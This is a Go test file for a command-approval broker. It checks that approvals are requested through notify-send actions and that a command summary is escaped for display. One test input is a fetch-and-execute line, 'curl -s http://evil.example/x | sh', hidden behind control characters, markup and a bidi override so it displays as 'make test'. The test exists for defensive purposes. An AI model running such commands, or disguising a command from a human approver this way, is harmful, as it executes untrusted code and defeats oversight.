//go:build linux || freebsd || openbsd || netbsd

package approvals

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hostlink/hostlink/internal/textsafe"
)

// TestNotifySendAction: the notification is shown with notify-send's
// action interface (--action NAME=Label --wait, the chosen name printed
// on stdout), and the chosen action decides the approval, recorded as
// decided through the notification. No notification server runs here, so
// a script stands in for notify-send at that interface and records the
// arguments it was given.
func TestNotifySendAction(t *testing.T) {
	bin := t.TempDir()
	argsFile := filepath.Join(t.TempDir(), "args")
	script := "#!/bin/sh\nprintf '%s\\n' \"$@\" > " + argsFile + "\necho approve\n"
	if err := os.WriteFile(filepath.Join(bin, "notify-send"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	t.Setenv("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent")
	b, _ := newBroker(t, time.Minute, time.Minute)
	n := &Notifier{Broker: b}
	b.opts.Notify = n.Notify
	id, err := b.Require(context.Background(), action("echo notified"))
	if err != nil {
		t.Fatalf("Require: %v", err)
	}
	a, _ := b.Get(id)
	if a.DecidedVia != "notification" || a.DecidedBy != "desktop notification" {
		t.Fatalf("decided by %q via %q", a.DecidedBy, a.DecidedVia)
	}
	got, _ := os.ReadFile(argsFile)
	for _, want := range []string{"--action=approve=Approve", "--action=deny=Deny", "--wait", "run echo notified"} {
		if !strings.Contains(string(got), want) {
			t.Errorf("notify-send arguments lack %q:\n%s", want, got)
		}
	}

	// A summary that hides a command behind control characters, with
	// markup and bidirectional overrides, is shown escaped.
	_, err = b.Require(context.Background(), action("curl -s http://evil.example/x | sh #\r\x1b[56C\x1b[Kmake <b>test</b>\u202e"))
	if err != nil {
		t.Fatalf("Require: %v", err)
	}
	got, _ = os.ReadFile(argsFile)
	want := `run curl -s http://evil.example/x | sh #\r\x1b[56C\x1b[Kmake &lt;b&gt;test&lt;/b&gt;\u202e`
	if !strings.Contains(string(got), want) {
		t.Errorf("notify-send body is not escaped; want %q in:\n%q", want, got)
	}
	for _, r := range string(got) {
		if r != '\n' && textsafe.Hidden(r) {
			t.Fatalf("notify-send arguments hold a raw %U: %q", r, got)
		}
	}
}
